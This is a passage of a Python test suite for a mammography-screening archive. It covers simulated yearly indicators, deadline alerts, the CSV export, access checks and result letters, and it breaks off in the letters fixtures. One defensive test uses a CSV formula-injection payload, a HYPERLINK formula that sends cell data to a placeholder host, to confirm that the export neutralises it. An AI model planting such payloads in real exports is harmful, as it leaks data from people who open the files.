"""Screening results: a scripted year gives the programme indicators its
ground truth implies, deadline alerts fire for the late exams only, and the
result letters reach the woman, her radiologist and her GP once.

* **The year.**  2,000 screening exams over 5 centres and 8 readers (and a
  few of the December before), scripted with a seeded generator: positive at
  L1; negative at L1 then negative, recalled or technically inadequate at L2;
  some never read at L1 or L2 within the year.  The script runs through the
  domain (:class:`worklist.screening.Screening`) on the real index of an
  in-process ``imag serve`` whose clock is a FakeClock moved day by day;
  every evening the due jobs run in this thread (the result letters'
  subscriber, the deadline jobs), so the letters go out the day an exam
  closes and a deadline job runs the evening of its due day.  The expected
  indicators are computed from the script's own records, never by the stats
  code, and compared with ``GET /api/screening/stats`` and its CSV.
* **Deadlines.**  A handful of exams on a test clock: letters in time, late,
  never, exactly on the last evening, and late with the deadline job not run
  yet (the subscriber alerts then).
* **Letters.**  Real MG studies stored and recognised through the
  ``study.stable`` subscriber, read, and their letters mailed through a real
  SMTP server (aiosmtpd, STARTTLS with a client certificate).

Index: SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
import math
import random
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time, timedelta
from email import message_from_bytes, policy
from pathlib import Path
from typing import Any

import pytest
import requests
from prometheus_client import REGISTRY
from pydicom.dataset import Dataset
from pydicom.uid import generate_uid

from archive.clock import FakeClock
from archive.config import ConfigError, load_config
from archive.events import Event
from archive.identity import Source
from archive.jobs import HANDLERS, JobQueue, Worker, load_handlers
from archive.security.principals import Principals
from archive.security.roles import Principal
from tests.dicomfiles import make_instance
from tests.inprocess import InProcessImag, serving_in_process
from tests.test_messaging_smtp import HOST, SmtpServer, pki, smtp_server  # noqa: F401
from worklist import screening_letters as letters_module
from worklist.screening import DEADLINE_JOB, Rule, Screening
from worklist.screening_letters import send_letters
from worklist.screening_service import screening_of

YEAR = 2026
START = datetime(YEAR - 1, 12, 1, 7, 0, tzinfo=UTC)
END = date(YEAR, 12, 31)  # the script stops that evening
TARGET = 15
SITES = ("CH-NORD", "CLINIQUE-SUD", "CABINET-EST", "CHU-CENTRE", "CENTRE-OUEST")
#: reader -> the centre where they read at L1
READERS = {
    "dr.arnaud": "CH-NORD",
    "dr.bernard": "CH-NORD",
    "dr.chevalier": "CLINIQUE-SUD",
    "dr.dubois": "CABINET-EST",
    "dr.etienne": "CHU-CENTRE",
    "dr.fabre": "CHU-CENTRE",
    "dr.girard": "CENTRE-OUEST",
    "dr.henry": "CLINIQUE-SUD",
}
#: second readers' accreditations (from, until): one ends mid-year, one starts in March
ACCREDITED = {
    "dr.bernard": (date(2025, 1, 1), None),
    "dr.chevalier": (date(2025, 1, 1), date(YEAR, 6, 30)),
    "dr.dubois": (date(2024, 1, 1), None),
    "dr.fabre": (date(2025, 6, 1), None),
    "dr.girard": (date(YEAR, 3, 1), None),
    "dr.henry": (date(2025, 1, 1), None),
}
MIN_L1, MIN_L2 = 250, 300
COORDINATION = "crcdc@depistage.mssante.fr"
RULE = Rule("depistage", site="*", procedure_code="QEQK004")
COORDINATOR = Principal("crcdc", "screening_coordinator")
PROCEDURE = "QEQK004"  # CCAM: bilateral mammography (the programme's code)

L1_NEGATIVE = {"right": {"acr": 1, "density": "B"}, "left": {"acr": 2, "density": "2"}}
L1_NEGATIVE_AFTER_BDI = {
    "right": {"acr": 3, "density": "C"},
    "left": {"acr": 1, "density": "C"},
    "bdi": {"done": True, "result": "NEGATIVE"},
}
L1_POSITIVE = {"right": {"acr": 4, "density": "B"}, "left": {"acr": 1, "density": "B"}}
L1_POSITIVE_ACR0 = {"right": {"acr": 0, "density": "D"}, "left": {"acr": 2, "density": "D"}}
VERDICTS = {
    "l2_negative": {"verdict": "NEGATIVE"},
    "l2_positive": {
        "verdict": "POSITIVE",
        "findings": {
            "left": {"acr": 4, "location": "QSE", "further_exams": ["échographie", "biopsie"]}
        },
    },
    "l2_inadequate": {"verdict": "INADEQUATE", "reason": "pli cutané", "views": ["LMLO", "RCC"]},
}
L2_FATES = tuple(VERDICTS)


def at(day: date, hour: int, minute: int = 0) -> datetime:
    return datetime.combine(day, time(hour, minute), tzinfo=UTC)


# -- running the due jobs in this thread -----------------------------------------------------


def run_due(archive: Any, *, kinds: list[str] | None = None, skip: tuple[str, ...] = ()) -> int:
    """Run every job due now (of ``kinds``, but not ``skip``) in this thread,
    until none is left; each must succeed.  The number run."""
    load_handlers()
    queue = JobQueue(archive.db)
    worker = Worker(archive, "script", queue=queue)
    wanted = [k for k in (kinds or sorted(HANDLERS)) if k not in skip]
    ran = 0
    while jobs := queue.claim("script", kinds=wanted, limit=50, lease_seconds=3600):
        for job in jobs:
            assert worker.run(job) == "done", (job.kind, job.payload)
            ran += 1
    return ran


def alerts_counted() -> dict[str, float]:
    """The deadline-alert counter, per site, as /metrics would show it."""
    return {
        site: REGISTRY.get_sample_value("imag_screening_deadline_alerts_total", {"site": site})
        or 0.0
        for site in SITES
    }


# -- an archive with its users ----------------------------------------------------------------


@dataclass
class World:
    server: InProcessImag
    clock: FakeClock
    tokens: dict[str, str] = field(default_factory=dict)
    smtp: SmtpServer | None = None

    @property
    def archive(self) -> Any:
        assert self.server.archive is not None
        return self.server.archive

    @property
    def screening(self) -> Screening:
        return screening_of(self.archive)

    def get(self, user: str, path: str, **params: str) -> requests.Response:
        return requests.get(
            self.server.url + path,
            params=params,
            headers={"Authorization": f"Bearer {self.tokens[user]}"},
            timeout=60,
        )

    def audit(self, action: str) -> list[tuple[str, str, dict]]:
        """(study, outcome, detail) of the audit entries of ``action``, oldest first."""
        rows = self.archive.db.query(
            "SELECT study_uid, outcome, detail FROM audit WHERE action = ? ORDER BY id", (action,)
        )
        return [(s, o, json.loads(d or "{}")) for s, o, d in rows]

    def last_audit(self) -> int:
        return int(self.archive.db.scalar("SELECT COALESCE(MAX(id), 0) FROM audit"))

    def accredit(self) -> None:
        for name, (start, until) in ACCREDITED.items():
            self.screening.accredit(
                name,
                accredited_from=start,
                accredited_until=until,
                reference=f"ARS-{name}",
                by=COORDINATOR,
            )


@contextmanager
def open_world(
    workdir: Path, index_url: str, clock: FakeClock, settings: dict[str, str]
) -> Iterator[World]:
    base = {
        "IMAG_LOG_LEVEL": "WARNING",
        "IMAG_SITES": json.dumps([{"name": s} for s in SITES]),
        "IMAG_SCREENING_COORDINATION_ADDRESS": COORDINATION,
        "IMAG_SCREENING_MIN_L1_PER_YEAR": str(MIN_L1),
        "IMAG_SCREENING_MIN_L2_PER_YEAR": str(MIN_L2),
        "IMAG_MESSAGING_FROM": "depistage@imag.mssante.fr",
    }
    with serving_in_process(
        workdir, settings={**base, **settings}, clock=clock, index_url=index_url
    ) as server:
        world = World(server, clock, {"admin": server.token})
        principals = Principals(world.archive.db)
        for user, role, sites in (
            ("crcdc", "screening_coordinator", []),
            ("dr.arnaud", "radiologist", ["CH-NORD"]),
            ("dr.henry", "screening_reader", []),
            ("manip.nord", "technician", ["CH-NORD"]),
            ("site.admin", "site_admin", ["CH-NORD"]),
        ):
            principals.add(user, role, sites=sites)
            world.tokens[user] = principals.create_token(user)[1]
        yield world


# -- the scripted year ------------------------------------------------------------------------


@dataclass
class Planned:
    """One exam of the script, and what happens to it (days, not times)."""

    n: int
    site: str
    exam_day: date
    fate: str  # l1_positive | l2_negative | l2_positive | l2_inadequate | no_l1 | no_l2
    l1_reader: str | None
    l1_day: date | None
    l1: dict
    l2_reader: str | None
    l2_day: date | None
    recipients: dict[str, str]
    uid: str = ""

    # what the script says happened by the evening of END
    @property
    def l1_done(self) -> bool:
        return self.l1_day is not None and self.l1_day <= END

    @property
    def l1_positive(self) -> bool:
        return self.l1_done and self.fate == "l1_positive"

    @property
    def l2_done(self) -> bool:
        return self.l2_day is not None and self.l2_day <= END and self.fate in L2_FATES

    @property
    def close_day(self) -> date | None:
        if self.l1_positive:
            return self.l1_day
        return self.l2_day if self.l2_done else None

    @property
    def letter_days(self) -> int | None:
        """Exam to letter, in days: the letters go the evening the exam closes."""
        return None if self.close_day is None else (self.close_day - self.exam_day).days

    @property
    def late(self) -> bool:
        """Letters after the last allowed day (exam day + target), or none
        by the last evening while that day has passed."""
        if self.letter_days is not None:
            return self.letter_days > TARGET
        return self.exam_day + timedelta(days=TARGET + 1) <= END


def accredited_on(name: str, day: date) -> bool:
    start, until = ACCREDITED[name]
    return start <= day and (until is None or day <= until)


def script(seed: int = 16) -> list[Planned]:
    rng = random.Random(seed)
    site_weights = [30, 20, 15, 25, 10]
    plan = []
    for n in range(2000):
        site = rng.choices(SITES, weights=site_weights)[0]
        exam_day = date(YEAR, 1, 1) + timedelta(days=rng.randrange(-31, 365))
        fate = rng.choices(
            ["l1_positive", "l2_negative", "l2_positive", "l2_inadequate", "no_l1", "no_l2"],
            weights=[9, 76, 7, 3, 2, 3],
        )[0]
        local = sorted(r for r, s in READERS.items() if s == site)
        l1_reader = rng.choices(local, weights=[3, 1][: len(local)])[0]
        l1_day = exam_day + timedelta(days=rng.choice([0, 0, 0, 1, 2, 3, 6]))
        if fate == "l1_positive":
            l1 = rng.choice([L1_POSITIVE, L1_POSITIVE_ACR0])
        else:
            l1 = rng.choices([L1_NEGATIVE, L1_NEGATIVE_AFTER_BDI], weights=[9, 1])[0]
        l2_reader = l2_day = None
        if fate in L2_FATES:
            delay = rng.choices(
                [rng.randint(1, 9), rng.randint(10, 20), rng.randint(21, 45)], weights=[6, 3, 1]
            )[0]
            l2_day = l1_day + timedelta(days=delay)
            choices = [r for r in sorted(ACCREDITED) if r != l1_reader and accredited_on(r, l2_day)]
            l2_reader = rng.choice(choices)
        if fate == "no_l1":
            l1_day = None
        recipients = {"woman": f"patiente.{n}@example.fr", "radiologist": f"{l1_reader}@{site}.fr"}
        if rng.random() < 0.8:
            recipients["gp"] = f"medecin.{n}@cabinet.fr"
        plan.append(
            Planned(
                n,
                site,
                exam_day,
                fate,
                l1_reader if l1_day else None,
                l1_day,
                {**l1, "recipients": {k: v.lower() for k, v in recipients.items()}},
                l2_reader,
                l2_day,
                recipients,
            )
        )
    return plan


def play(world: World, plan: list[Planned]) -> None:
    """Run the script day by day: exams at 09:00, first readings at 11:00,
    second readings at 15:00, the due jobs at 20:00 (the messages themselves
    stay queued: their SMTP delivery is the letters test's)."""
    screening = world.screening
    by_day: dict[date, dict[str, list[Planned]]] = {}
    for p in plan:
        by_day.setdefault(p.exam_day, {}).setdefault("exam", []).append(p)
        if p.l1_day is not None:
            by_day.setdefault(p.l1_day, {}).setdefault("l1", []).append(p)
        if p.l2_day is not None:
            by_day.setdefault(p.l2_day, {}).setdefault("l2", []).append(p)
    day = START.date()
    while day <= END:
        steps = by_day.get(day, {})
        world.clock.set(at(day, 9))
        for p in steps.get("exam", []):
            p.uid = f"1.2.250.1.213.16.{p.n}"
            screening.recognise(
                study_uid=p.uid,
                site=p.site,
                patient_ref=None,
                study_date=p.exam_day.strftime("%Y%m%d"),
                rule=RULE,
            )
        world.clock.set(at(day, 11))
        for p in steps.get("l1", []):
            reader = Principal(p.l1_reader or "", "radiologist", sites=(p.site,))
            screening.record_l1(p.uid, reader, p.l1)
        world.clock.set(at(day, 15))
        for p in steps.get("l2", []):
            reader = Principal(p.l2_reader or "", "screening_reader")
            _, held = screening.claim(p.uid, reader)
            screening.verdict(p.uid, reader, held.transaction_uid, VERDICTS[p.fate])
        world.clock.set(at(day, 20))
        run_due(world.archive, skip=("message.deliver",))
        day += timedelta(days=1)


# -- the indicators the script implies (never the stats code) ---------------------------------


def nearest_rank(values: list[int], p: float) -> int:
    ordered = sorted(values)
    return ordered[math.ceil(p * len(ordered)) - 1]


def rate(part: int, whole: int) -> float | None:
    return part / whole if whole else None


def expected_figures(exams: list[Planned]) -> dict[str, Any]:
    days = [p.letter_days for p in exams if p.letter_days is not None]
    l1_reads = sum(p.l1_done for p in exams)
    l1_positive = sum(p.l1_positive for p in exams)
    l2 = Counter(p.fate for p in exams if p.l2_done)
    l2_reads = sum(l2.values())
    overdue_until = END - timedelta(days=TARGET + 1)
    return {
        "exams": len(exams),
        "l1_reads": l1_reads,
        "l1_positive": l1_positive,
        "l1_positive_rate": rate(l1_positive, l1_reads),
        "l2_reads": l2_reads,
        "l2_negative": l2["l2_negative"],
        "l2_positive": l2["l2_positive"],
        "l2_inadequate": l2["l2_inadequate"],
        "l2_recall_rate": rate(l2["l2_positive"], l2_reads),
        "l2_inadequate_rate": rate(l2["l2_inadequate"], l2_reads),
        "letters": len(days),
        "letters_late": sum(d > TARGET for d in days),
        "late_alerts": sum(p.late for p in exams),
        "turnaround": {
            "count": len(days),
            "median": nearest_rank(days, 0.5) if days else None,
            "p90": nearest_rank(days, 0.9) if days else None,
            "max": max(days) if days else None,
            "buckets": {
                "0-7": sum(0 <= d <= 7 for d in days),
                "8-15": sum(8 <= d <= 15 for d in days),
                "16-30": sum(16 <= d <= 30 for d in days),
                ">30": sum(d > 30 for d in days),
            },
        },
        "waiting": {
            "l1": sum(not p.l1_done for p in exams),
            "l2": sum(p.l1_done and not p.l1_positive and not p.l2_done for p in exams),
            "letter": 0,  # the letters go the evening an exam closes
            "overdue": sum(p.close_day is None and p.exam_day <= overdue_until for p in exams),
        },
    }


def expected(plan: list[Planned], year: int) -> dict[str, Any]:
    exams = [p for p in plan if p.exam_day.year == year]
    first, last = date(year, 1, 1), date(year, 12, 31)
    l1 = Counter(p.l1_reader for p in exams if p.l1_done)
    l1_pos = Counter(p.l1_reader for p in exams if p.l1_positive)
    l2 = {f: Counter(p.l2_reader for p in exams if p.l2_done and p.fate == f) for f in L2_FATES}
    accredited = {
        name
        for name, (start, until) in ACCREDITED.items()
        if start <= last and (until is None or until >= first)
    }
    readers = []
    for name in sorted({*l1, *(r for c in l2.values() for r in c), *accredited}):
        l2_reads = sum(l2[f][name] for f in L2_FATES)
        readers.append(
            {
                "reader": name,
                "accredited": name in accredited,
                "l1_reads": l1[name],
                "l1_positive": l1_pos[name],
                "l1_positive_rate": rate(l1_pos[name], l1[name]),
                "l2_reads": l2_reads,
                "l2_negative": l2["l2_negative"][name],
                "l2_positive": l2["l2_positive"][name],
                "l2_inadequate": l2["l2_inadequate"][name],
                "l2_recall_rate": rate(l2["l2_positive"][name], l2_reads),
                "l2_inadequate_rate": rate(l2["l2_inadequate"][name], l2_reads),
                "under_l1_minimum": (l1[name] < MIN_L1) if l1[name] else None,
                "under_l2_minimum": (l2_reads < MIN_L2)
                if (l2_reads or name in accredited)
                else None,
            }
        )
    return {
        "year": year,
        "target_days": TARGET,
        "thresholds": {"l1_per_year": MIN_L1, "l2_per_year": MIN_L2},
        "programme": expected_figures(exams),
        "centres": [
            {"site": site, **expected_figures([p for p in exams if p.site == site])}
            for site in sorted({p.site for p in exams})
        ],
        "readers": readers,
    }


def pct(value: float | None) -> str:
    return "" if value is None else f"{100 * value:.2f}".replace(".", ",")


def flag(value: bool | None) -> str:
    return {None: "", True: "oui", False: "non"}[value]


def expected_csv_rows(figures: dict[str, Any]) -> list[dict[str, str]]:
    """The CSV rows the indicators imply (as the module docstring documents them)."""

    def row(level: str, name: str, f: dict[str, Any]) -> dict[str, str]:
        turn, waiting = f.get("turnaround"), f.get("waiting")
        values = {
            "level": level,
            "name": name,
            "year": str(figures["year"]),
            "exams": str(f["exams"]) if "exams" in f else "",
            "accredited": flag(f.get("accredited")),
            "under_l1_minimum": flag(f.get("under_l1_minimum")),
            "under_l2_minimum": flag(f.get("under_l2_minimum")),
            "l1_positive_rate_pct": pct(f["l1_positive_rate"]),
            "l2_recall_rate_pct": pct(f["l2_recall_rate"]),
            "l2_inadequate_rate_pct": pct(f["l2_inadequate_rate"]),
        }
        for key in ("l1_reads", "l1_positive", "l2_reads", "l2_negative", "l2_positive"):
            values[key] = str(f[key])
        values["l2_inadequate"] = str(f["l2_inadequate"])
        for key in ("letters", "letters_late", "late_alerts"):
            values[key] = str(f[key]) if key in f else ""
        for key, got in (("median", "median"), ("p90", "p90"), ("max", "max")):
            value = turn[got] if turn else None
            values[f"turnaround_{key}_days"] = "" if value is None else str(value)
        for key, bucket in (
            ("days_0_7", "0-7"),
            ("days_8_15", "8-15"),
            ("days_16_30", "16-30"),
            ("days_over_30", ">30"),
        ):
            values[key] = str(turn["buckets"][bucket]) if turn else ""
        for key in ("l1", "l2", "letter", "overdue"):
            values[f"waiting_{key}"] = str(waiting[key]) if waiting else ""
        return values

    rows = [row("programme", "", figures["programme"])]
    rows += [row("centre", c["site"], c) for c in figures["centres"]]
    rows += [row("reader", r["reader"], r) for r in figures["readers"]]
    return rows


def read_csv(answer: requests.Response) -> list[dict[str, str]]:
    assert answer.content.startswith("\ufeff".encode())  # Excel's cue for UTF-8
    text = answer.content.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


# -- the year, played once per backend --------------------------------------------------------


@dataclass
class Year:
    world: World
    plan: list[Planned]
    alerted: dict[str, float]  # the counter's increase per site while the year played


@pytest.fixture(scope="module")
def year(module_index_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Year]:
    clock = FakeClock(START)
    workdir = tmp_path_factory.mktemp("screening-year") / "imag"
    with open_world(workdir, module_index_url, clock, {}) as world:
        world.accredit()
        plan = script()
        before = alerts_counted()
        play(world, plan)
        after = alerts_counted()
        yield Year(world, plan, {s: after[s] - before[s] for s in SITES})


def test_the_script_goes_through_every_path_and_both_sides_of_each_threshold(year: Year) -> None:
    exams = [p for p in year.plan if p.exam_day.year == YEAR]
    fates = Counter(p.fate for p in exams if p.close_day is not None)
    assert set(fates) == {"l1_positive", *L2_FATES}
    assert sum(not p.l1_done for p in exams) and sum(p.l1_done and not p.close_day for p in exams)
    assert any(p.l1.get("bdi") for p in exams if p.l2_done)  # negative after a work-up
    readers = expected(year.plan, YEAR)["readers"]
    assert {r["under_l1_minimum"] for r in readers} >= {True, False}
    assert {r["under_l2_minimum"] for r in readers} >= {True, False}
    assert {p.exam_day.year for p in year.plan} == {YEAR - 1, YEAR}


def test_a_scripted_year_gives_the_indicators_of_its_ground_truth(year: Year) -> None:
    answer = year.world.get("crcdc", "/api/screening/stats")  # default: this year
    assert answer.status_code == 200, answer.text
    got = answer.json()
    assert got.pop("at") == at(END, 20).isoformat()
    want = expected(year.plan, YEAR)
    assert got["programme"] == want["programme"]
    assert got["centres"] == want["centres"]
    assert got["readers"] == want["readers"]
    assert got == want


def test_the_year_before_counts_only_its_own_exams(year: Year) -> None:
    answer = year.world.get("crcdc", "/api/screening/stats", year=str(YEAR - 1))
    assert answer.status_code == 200, answer.text
    got = answer.json()
    got.pop("at")
    assert got == expected(year.plan, YEAR - 1)
    assert got["programme"]["exams"] == sum(p.exam_day.year == YEAR - 1 for p in year.plan)


def test_the_csv_export_has_one_row_per_centre_and_reader_with_the_same_figures(
    year: Year,
) -> None:
    answer = year.world.get("crcdc", "/api/screening/stats.csv", year=str(YEAR))
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert f"depistage-indicateurs-{YEAR}.csv" in answer.headers["Content-Disposition"]
    rows = read_csv(answer)
    want = expected_csv_rows(expected(year.plan, YEAR))
    assert [(r["level"], r["name"]) for r in rows] == [(r["level"], r["name"]) for r in want]
    for got, wanted in zip(rows, want, strict=True):
        assert {k: got[k] for k in wanted} == wanted, wanted["name"]
    # the admin (who may do everything) gets the same file
    assert year.world.get("admin", "/api/screening/stats.csv").content == answer.content


def test_deadline_alerts_fire_for_the_late_exams_of_the_year_and_only_for_them(
    year: Year,
) -> None:
    world = year.world
    late = {p.uid for p in year.plan if p.late}
    assert 0 < len(late) < len(year.plan)
    alerted = {
        r[0]
        for r in world.archive.db.query(
            "SELECT study_uid FROM screening_exams WHERE late_alerted_at IS NOT NULL"
        )
    }
    assert alerted == late
    entries = world.audit("screening.deadline-alert")
    assert sorted(s for s, _, _ in entries) == sorted(late)  # one each
    by_site = Counter(p.site for p in year.plan if p.late)
    assert year.alerted == {s: float(by_site[s]) for s in SITES}
    mailed = world.archive.db.query(
        "SELECT study_uid, recipients FROM messages WHERE purpose = 'screening.deadline-alert'"
    )
    assert sorted(s for s, _ in mailed) == sorted(late)
    assert {r for _, r in mailed} == {json.dumps([COORDINATION])}


def test_every_closed_exam_got_its_letters_once_and_a_missing_gp_is_skipped(year: Year) -> None:
    world = year.world
    closed = {p.uid: p for p in year.plan if p.close_day is not None}
    rows = world.archive.db.query(
        "SELECT study_uid, recipient, status, message_ref FROM screening_letters"
    )
    assert Counter(s for s, *_ in rows) == dict.fromkeys(closed, 3)
    for study, recipient, status, message in rows:
        has_address = recipient in closed[study].recipients
        assert status == ("queued" if has_address else "no address")
        assert (message is not None) == has_address
    entries = world.audit("screening.letter")
    assert Counter((s, d["recipient"]) for s, _, d in entries) == Counter(
        (s, r) for s, r, *_ in rows
    )
    letters_at = dict(
        world.archive.db.query(
            "SELECT study_uid, letters_at FROM screening_exams WHERE letters_at IS NOT NULL"
        )
    )
    assert set(letters_at) == set(closed)


@pytest.mark.parametrize("user", ["dr.arnaud", "dr.henry", "manip.nord", "site.admin"])
def test_a_site_user_or_a_reader_gets_403_on_the_indicators_and_their_csv(
    year: Year, user: str
) -> None:
    world = year.world
    before = world.last_audit()
    for path in ("/api/screening/stats", "/api/screening/stats.csv"):
        answer = world.get(user, path)
        assert answer.status_code == 403
        assert answer.headers["Content-Type"].startswith("application/problem+json")
        assert str(YEAR) not in answer.text and "CH-NORD" not in answer.text
    entries = world.archive.db.query(
        "SELECT actor, action, outcome FROM audit WHERE id > ? ORDER BY id", (before,)
    )
    assert [tuple(e) for e in entries] == [
        (user, "screening.stats", "denied"),
        (user, "screening.stats-export", "denied"),
    ]


@pytest.mark.parametrize(
    "value", ["1999", str(YEAR + 1), "20x6", "2026.0", "", " 2026", "99999", "-2026", "２０２６"]
)
def test_a_malformed_or_out_of_range_year_is_a_400_problem_naming_it(
    year: Year, value: str
) -> None:
    world = year.world
    before = world.last_audit()
    for path in ("/api/screening/stats", "/api/screening/stats.csv"):
        answer = world.get("crcdc", path, year=value)
        assert answer.status_code == 400, (value, answer.text)
        problem = answer.json()
        assert problem["status"] == 400
        assert [p["name"] for p in problem["invalid-params"]] == ["year"]
        assert "2000" in problem["detail"]
    entries = world.archive.db.query(
        "SELECT action, status FROM audit WHERE id > ? ORDER BY id", (before,)
    )
    assert [tuple(e) for e in entries] == [
        ("screening.stats", 400),
        ("screening.stats-export", 400),
    ]


# -- deadlines, exam by exam ------------------------------------------------------------------

DAY0 = date(YEAR, 3, 2)  # a Monday: the exams' day; their letters are due on 17 March 00:00


@pytest.fixture
def small(tmp_path: Path, index_url: str) -> Iterator[World]:
    clock = FakeClock(at(DAY0, 8))
    with open_world(tmp_path / "imag", index_url, clock, {}) as world:
        world.accredit()
        yield world


def test_deadline_alerts_fire_for_late_exams_only_whenever_the_job_runs(small: World) -> None:
    world, screening = small, small.screening
    l1 = Principal("dr.arnaud", "radiologist", sites=("CH-NORD",))
    l2 = Principal("dr.henry", "screening_reader")
    reading = {**L1_NEGATIVE, "recipients": {"woman": "a@example.fr"}}

    def exam(name: str, day: date = DAY0) -> str:
        uid = f"1.2.250.1.213.16.9.{name}"
        screening.recognise(
            study_uid=uid,
            site="CH-NORD",
            patient_ref=None,
            study_date=day.strftime("%Y%m%d"),
            rule=RULE,
        )
        return uid

    def second_read(uid: str) -> None:
        _, held = screening.claim(uid, l2)
        screening.verdict(uid, l2, held.transaction_uid, {"verdict": "NEGATIVE"})

    def on(day: int, hour: int, minute: int = 0) -> None:
        world.clock.set(at(DAY0 + timedelta(days=day), hour, minute))

    before = alerts_counted()
    in_time = exam("in-time")
    late = exam("late")
    never = exam("never")
    last_evening = exam("last-evening")
    job_late = exam("job-late", DAY0 - timedelta(days=1))  # late from 17 March
    for uid in (in_time, late, last_evening, job_late):
        screening.record_l1(uid, l1, reading)
    on(5, 15)
    second_read(in_time)
    run_due(world.archive)  # letters 5 days after the exam
    # 17 March: job-late's letters are late, its deadline job has not run yet
    # when its verdict comes: the letters' subscriber alerts, the job then does nothing
    on(15, 10)
    second_read(job_late)
    run_due(world.archive, kinds=["event:screening-letters"])
    run_due(world.archive)
    on(15, 23, 30)  # the last half hour of the others' 15th day: still in time
    second_read(last_evening)
    on(15, 23, 45)
    run_due(world.archive)
    on(16, 0, 30)  # 18 March: the others are late
    run_due(world.archive)
    on(20, 10)  # late's letters go at last: no second alert
    second_read(late)
    run_due(world.archive)
    # a deadline job run again (re-queued by hand) alerts nobody twice
    for uid in (in_time, late, never, job_late):
        JobQueue(world.archive.db).enqueue("screening.deadline", {"study_uid": uid})
    on(30, 9)
    run_due(world.archive)

    alerted = {
        s: (a, lt)
        for s, a, lt in world.archive.db.query(
            "SELECT study_uid, late_alerted_at, letters_at FROM screening_exams"
        )
    }
    assert {s for s, (a, _) in alerted.items() if a is not None} == {late, never, job_late}
    entries = world.audit("screening.deadline-alert")
    assert entries[0][0] == job_late  # the first, on 17 March
    assert sorted(s for s, _, _ in entries) == sorted([job_late, late, never])
    by_study = {s: d for s, _, d in entries}
    assert by_study[job_late]["letters_at"] is not None  # alerted by the subscriber
    assert by_study[late]["letters_at"] is None and by_study[never]["state"] == "AWAITING L1"
    assert alerts_counted()["CH-NORD"] - before["CH-NORD"] == 3
    mailed = world.archive.db.query(
        "SELECT study_uid, subject, recipients FROM messages "
        "WHERE purpose = 'screening.deadline-alert' ORDER BY id"
    )
    assert sorted(s for s, _, _ in mailed) == sorted([job_late, late, never])
    assert all(json.loads(r) == [COORDINATION] for _, _, r in mailed)
    subject = next(subject for s, subject, _ in mailed if s == late)
    assert "15 jours" in subject and "CH-NORD" in subject and "02/03/2026" in subject
    figures = world.get("crcdc", "/api/screening/stats").json()["programme"]
    assert figures["late_alerts"] == 3 and figures["letters_late"] == 2
    # in time 5 days, last evening 15 (in time), job-late 16 and late 18 (late)
    assert figures["turnaround"]["buckets"] == {"0-7": 1, "8-15": 1, "16-30": 2, ">30": 0}
    assert figures["waiting"] == {"l1": 1, "l2": 0, "letter": 0, "overdue": 1}


def test_late_letters_and_the_deadline_job_at_the_same_moment_alert_once(
    small: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The adversary is time: on PostgreSQL, the letters' transaction may have
    read the exam (not alerted) just before the deadline job, on another
    node, committed its alert.  Emulated here by handing the letters that
    earlier read of the exam (SQLite serialises the two transactions).  The
    exam row decides: one alert, one audit entry, one mail, counted once."""
    world, screening = small, small.screening
    l1 = Principal("dr.arnaud", "radiologist", sites=("CH-NORD",))
    l2 = Principal("dr.henry", "screening_reader")
    uid = "1.2.250.1.213.16.9.race"
    screening.recognise(
        study_uid=uid, site="CH-NORD", patient_ref=None, study_date="20260302", rule=RULE
    )
    screening.record_l1(uid, l1, {**L1_NEGATIVE, "recipients": {"woman": "a@example.fr"}})
    before = alerts_counted()["CH-NORD"]
    world.clock.set(at(DAY0 + timedelta(days=16), 0, 30))  # late
    _, held = screening.claim(uid, l2)
    screening.verdict(uid, l2, held.transaction_uid, {"verdict": "NEGATIVE"})
    read_by_the_letters = letters_module.load_exam(world.archive.db, uid)
    assert read_by_the_letters.late_alerted_at is None
    run_due(world.archive, kinds=[DEADLINE_JOB])  # the deadline job alerts first
    monkeypatch.setattr(letters_module, "load_exam", lambda db, study: read_by_the_letters)
    run_due(world.archive, kinds=["event:screening-letters"])
    monkeypatch.undo()
    [(study, _, detail)] = world.audit("screening.deadline-alert")
    assert study == uid and detail["letters_at"] is None  # the deadline job's
    mailed = world.archive.db.query(
        "SELECT study_uid FROM messages WHERE purpose = 'screening.deadline-alert'"
    )
    assert mailed == [(uid,)]
    assert alerts_counted()["CH-NORD"] - before == 1
    letters = world.archive.db.scalar(
        "SELECT letters_at FROM screening_exams WHERE study_uid = ?", (uid,)
    )
    assert letters is not None  # the letters went all the same


def test_without_a_coordination_address_the_alert_is_audited_and_counted_but_not_mailed(
    tmp_path: Path, index_url: str
) -> None:
    clock = FakeClock(at(DAY0, 8))
    settings = {"IMAG_SCREENING_COORDINATION_ADDRESS": ""}
    with open_world(tmp_path / "imag", index_url, clock, settings) as world:
        uid = "1.2.250.1.213.16.7.1"
        world.screening.recognise(
            study_uid=uid, site="CH-NORD", patient_ref=None, study_date="20260302", rule=RULE
        )
        before = alerts_counted()["CH-NORD"]
        clock.set(at(DAY0 + timedelta(days=15), 23, 59))  # day 15: not late yet
        run_due(world.archive)
        assert world.audit("screening.deadline-alert") == []
        clock.set(at(DAY0 + timedelta(days=16), 0, 1))
        run_due(world.archive)
        assert [s for s, _, _ in world.audit("screening.deadline-alert")] == [uid]
        assert alerts_counted()["CH-NORD"] - before == 1
        assert world.archive.db.scalar("SELECT count(*) FROM messages") == 0


def test_a_csv_name_that_a_spreadsheet_would_run_as_a_formula_is_quoted(small: World) -> None:
    screening = small.screening
    uid = "1.2.250.1.213.16.8.1"
    screening.recognise(
        study_uid=uid, site="CH-NORD", patient_ref=None, study_date="20260302", rule=RULE
    )
    hostile = '=HYPERLINK("http://x.example/?"&A1,"ok")'
    screening.record_l1(uid, Principal(hostile, "radiologist", sites=("CH-NORD",)), L1_POSITIVE)
    rows = read_csv(small.get("crcdc", "/api/screening/stats.csv"))
    readers = [r["name"] for r in rows if r["level"] == "reader"]
    assert "'" + hostile in readers
    assert not any(r["name"].startswith(("=", "+", "-", "@")) for r in rows)


# -- the letters, through a real SMTP server --------------------------------------------------

WOMEN = {
    "sophie": {
        "name": "MARTIN^Sophie",
        "id": "IPP-1001",
        "birth": "19640512",
        "recipients": {
            "woman": "sophie.martin@example.fr",
            "radiologist": "dr.arnaud@ch-nord.mssante.fr",
